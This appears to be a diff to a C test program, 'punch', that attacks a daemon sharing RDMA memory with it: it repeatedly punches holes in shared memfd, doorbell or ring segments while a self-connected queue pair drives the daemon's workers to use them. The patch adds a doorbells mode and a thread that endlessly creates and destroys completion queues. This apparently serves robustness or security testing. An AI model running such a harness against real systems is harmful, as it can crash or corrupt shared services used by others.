@@ -4,10 +4,11 @@
  * that it shares with the daemon, again and again, and has mapped this memory so often that each
  * hole takes the kernel long. A queue pair connected to itself makes the worker use the memory.
  *
- *   punch DEVICE region|rings
+ *   punch DEVICE region|doorbells|rings
  *
- * region: a registered memfd; rings: the segment of the context's doorbells, whose descriptor the
- * provider has closed. Prints "attacks" when it begins, and goes on until it is killed.
+ * region: a registered memfd. doorbells: the segment of the context's doorbells, which workers look
+ * at all the time. rings: the segment of its rings, which the control thread clears when it creates
+ * a CQ. Prints "attacks" when it begins, and goes on until it is killed.
  */
 #include <fcntl.h>
 #include <pthread.h>
@@ -56,9 +57,9 @@ region_make(void)
 	return ibv_reg_mr(side.pd, at, REGION, SIDE_ACCESS);
 }
 
-/* The provider's mapping of the doorbells, which workers look at all the time. */
+/* The provider's mappings of the doorbells, or of rings. */
 static void
-rings_find(void)
+segments_find(bool doorbells)
 {
 	FILE *maps = fopen("/proc/self/maps", "re");
 	unsigned long from, to;
@@ -66,7 +67,8 @@ rings_find(void)
 
 	while (maps != NULL && fgets(line, sizeof(line), maps) != NULL) {
 		if (strstr(line, " rw-s ") != NULL && strstr(line, "uroce-segment") != NULL &&
-		    sscanf(line, "%lx-%lx", &from, &to) == 2 && to - from < DOORBELLS)
+		    sscanf(line, "%lx-%lx", &from, &to) == 2 &&
+		    (to - from < DOORBELLS) == doorbells)
 			punch_add((uint8_t *)from, to - from);
 	}
 	if (npunched == 0)
@@ -123,27 +125,42 @@ write_on(struct ibv_qp *qp, const struct ibv_mr *mr)
 	}
 }
 
+/* Creates and destroys CQs. */
+static void
+create_on(void)
+{
+	for (;;) {
+		struct ibv_cq *cq = ibv_create_cq(side.ctx, 64, NULL, NULL, 0);
+
+		if (cq == NULL || ibv_destroy_cq(cq) != 0)
+			die("no CQ: %m");
+	}
+}
+
 int
 main(int argc, char **argv)
 {
+	bool region = argc == 3 && strcmp(argv[2], "region") == 0;
 	bool rings = argc == 3 && strcmp(argv[2], "rings") == 0;
 	struct ibv_mr *mr;
 	struct ibv_qp *qp;
 	pthread_t t;
 
 	if (argc != 3)
-		die("usage: punch DEVICE region|rings");
+		die("usage: punch DEVICE region|doorbells|rings");
 	side_open(&side, argv[1]);
-	mr = rings ? side.mr : region_make();
+	mr = region ? region_make() : side.mr;
 	qp = side_qp(side.pd, IBV_QPT_RC, side.cq);
 	if (mr == NULL || qp == NULL || side_raise(&side, qp, qp->qp_num) != 0)
 		die("no queue pair: %m");
-	if (rings)
-		rings_find();
+	if (!region)
+		segments_find(!rings);
 	mappings_make();
 	if (pthread_create(&t, NULL, punch_main, NULL) != 0)
 		die("no thread");
 	puts("attacks");
 	fflush(stdout);
+	if (rings)
+		create_on();
 	write_on(qp, mr);
 }
